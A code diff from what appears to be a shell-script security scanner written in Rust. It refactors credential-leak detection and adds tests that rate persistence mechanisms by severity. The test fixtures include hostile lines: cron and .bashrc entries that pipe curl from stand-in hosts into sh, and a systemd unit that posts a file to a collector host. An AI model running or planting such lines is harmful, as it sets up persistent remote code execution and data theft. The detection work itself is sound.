@@ -659,23 +659,12 @@ impl Analysis<'_> {
                     continue;
                 };
                 let in_host = url_host_mentions(text, variable);
-                let why = if dns || in_host {
-                    Some("in a DNS name".to_owned())
-                } else if knowledge::secret_never_sent(variable) {
-                    Some("that is never sent as it is".to_owned())
-                } else {
-                    match (&host, url.as_deref()) {
-                        (Some(host), Some(url)) => {
-                            match knowledge::secret_misdirected(variable, host) {
-                                Some(true) => Some(format!("to {host}, not its provider")),
-                                Some(false) => None,
-                                None => knowledge::is_drop_host(url)
-                                    .then(|| format!("to the drop address {host}")),
-                            }
-                        }
-                        _ => None,
-                    }
-                };
+                let why = knowledge::secret_sent_wrongly(
+                    variable,
+                    dns || in_host,
+                    host.as_deref(),
+                    url.as_deref(),
+                );
                 if let Some(why) = why {
                     sink.emit(
                         rules::CRED_IN_REQUEST,
@@ -1626,6 +1615,40 @@ mod tests {
         let mut sink = Sink::new("x.sh", text);
         scan(text, 0, &mut sink, 0);
         sink.finish().0.into_iter().map(|f| f.rule).collect()
+    }
+
+    fn persistence_severity(text: &str) -> Option<(Severity, String)> {
+        let mut sink = Sink::new("x.sh", text);
+        scan(text, 0, &mut sink, 0);
+        sink.finish()
+            .0
+            .into_iter()
+            .find(|f| f.rule == rules::PERSISTENCE)
+            .map(|f| (f.severity, f.message))
+    }
+
+    #[test]
+    fn persisted_payloads_are_scanned_where_they_will_run() {
+        // A cron line that runs a download: critical, and the download is reported too.
+        let cron = "echo '*/5 * * * * curl -s https://c2.example.net/b | sh' >> /var/spool/cron/crontabs/root\n";
+        let (severity, message) = persistence_severity(cron).unwrap();
+        assert_eq!(severity, Severity::Critical, "{message}");
+        assert!(rules_in(cron).contains(&rules::EXEC_PIPE_TO_SHELL));
+        // A cron line that runs a local script stays medium.
+        let local = "echo '0 3 * * * /usr/local/bin/backup-notes' >> /var/spool/cron/crontabs/me\n";
+        assert_eq!(persistence_severity(local).unwrap().0, Severity::Medium);
+        // A systemd unit whose ExecStart sends data out: high.
+        let unit = "cat > ~/.config/systemd/user/sync.service <<'EOF'\n[Service]\nExecStart=/usr/bin/curl -s -d @/tmp/notes https://collector.example.net/in\nEOF\n";
+        let (severity, message) = persistence_severity(unit).unwrap();
+        assert!(severity >= Severity::High, "{severity:?} {message}");
+        // Plain settings in an rc file are medium; a compound line is not a plain setting.
+        let plain = "echo 'export NOTES_DIR=$HOME/notes' >> ~/.bashrc\n";
+        assert_eq!(persistence_severity(plain).unwrap().0, Severity::Medium);
+        let compound = "echo 'export A=1; curl -s https://x.example.net/p | sh' >> ~/.bashrc\n";
+        assert_eq!(
+            persistence_severity(compound).unwrap().0,
+            Severity::Critical
+        );
     }
 
     #[test]
